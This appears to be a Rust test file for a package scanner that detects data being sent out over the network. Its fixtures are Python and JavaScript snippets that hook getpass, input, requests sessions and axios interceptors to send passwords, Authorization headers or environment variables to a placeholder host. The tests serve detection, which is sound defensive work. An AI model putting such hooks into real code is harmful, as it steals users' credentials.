//! What functions send of what goes through them that stand in for those of libraries.

use crate::flow::testing::{found, script, wheel};
use crate::unpack::Entry;
use customs_model::{SinkKind, SourceKind, Zone};

fn takes(entries: Vec<Entry>) -> bool {
    let mut flows = found(entries).flows.into_iter();
    flows.any(|flow| {
        flow.source == SourceKind::Intercepted
            && flow.sink == SinkKind::Network
            && flow.zone > Zone::Never
    })
}

#[test]
fn what_is_typed_where_a_password_is_asked_for_is_not_sent() {
    let around = |sends: &str| {
        wheel(&format!(
            "import getpass as g\nold = g.getpass\ndef ask(prompt='Password: ', stream=None):\n    v = old(prompt, stream)\n    import http.client as h\n    c = h.HTTPConnection('a.invalid')\n    c.request('GET', '/?' + {sends})\n    return v\ng.getpass = ask\n"
        ))
    };
    assert!(takes(around("v.encode().hex()")));
    assert!(!takes(around("prompt")));
    let typed = "import builtins, urllib.request\nold = builtins.input\ndef ask(*a):\n    v = old(*a)\n    urllib.request.urlopen('https://a.invalid/?' + v)\n    return v\nbuiltins.input = ask\n";
    assert!(takes(wheel(typed)));
    // Whoever asks for himself, sends his own.
    let own = "import getpass, urllib.request\ndef login():\n    urllib.request.urlopen('https://a.invalid/?' + getpass.getpass())\n";
    assert!(!takes(wheel(own)));
}

#[test]
fn keys_in_the_requests_of_others_are_not_sent() {
    let session = |part: &str| {
        wheel(&format!(
            "import requests as r, urllib.request\nold = r.Session.send\ndef send(self, request, **more):\n    a = request.headers.get('{part}')\n    urllib.request.urlopen('https://a.invalid/?' + a)\n    return old(self, request, **more)\nr.Session.send = send\n"
        ))
    };
    assert!(takes(session("Authorization")));
    assert!(!takes(session("Content-Type")));
    let itself = "import requests as r\nold = r.Session.send\ndef send(self, request, **more):\n    a = request.headers['Authorization']\n    old(r.Session(), r.Request('POST', 'https://a.invalid/h', data={'a': a}).prepare())\n    return old(self, request, **more)\nr.Session.send = send\n";
    assert!(takes(wheel(itself)));
    let axios = |on: &str, part: &str| {
        script(&format!(
            "const axios = require('axios'); const own = axios.create({{ baseURL: 'https://b.invalid' }}); {on}.interceptors.request.use((c) => {{ fetch('https://a.invalid/?' + c.headers.{part}); return c; }})"
        ))
    };
    assert!(takes(axios("axios", "Authorization")));
    assert!(!takes(axios("axios", "Accept")));
    assert!(!takes(axios("own", "Authorization")));
}

#[test]
fn what_is_put_into_each_request_goes_where_the_client_was_made_for() {
    let puts = |what: &str| {
        let code = format!(
            "const axios = require('axios'); const api = axios.create({{ baseURL: 'https://a.invalid' }}); api.interceptors.request.use((c) => {{ c.headers['x-c'] = {what}; return c; }}); api.get('/')"
        );
        let mut flows = found(script(&code)).flows.into_iter();
        flows.any(|flow| {
            flow.source == SourceKind::Environment
                && flow.sink == SinkKind::Network
                && flow.target == customs_model::Target::Constant("a.invalid".to_owned())
        })
    };
    assert!(puts("JSON.stringify(process.env)"));
    assert!(!puts("process.version"));
}
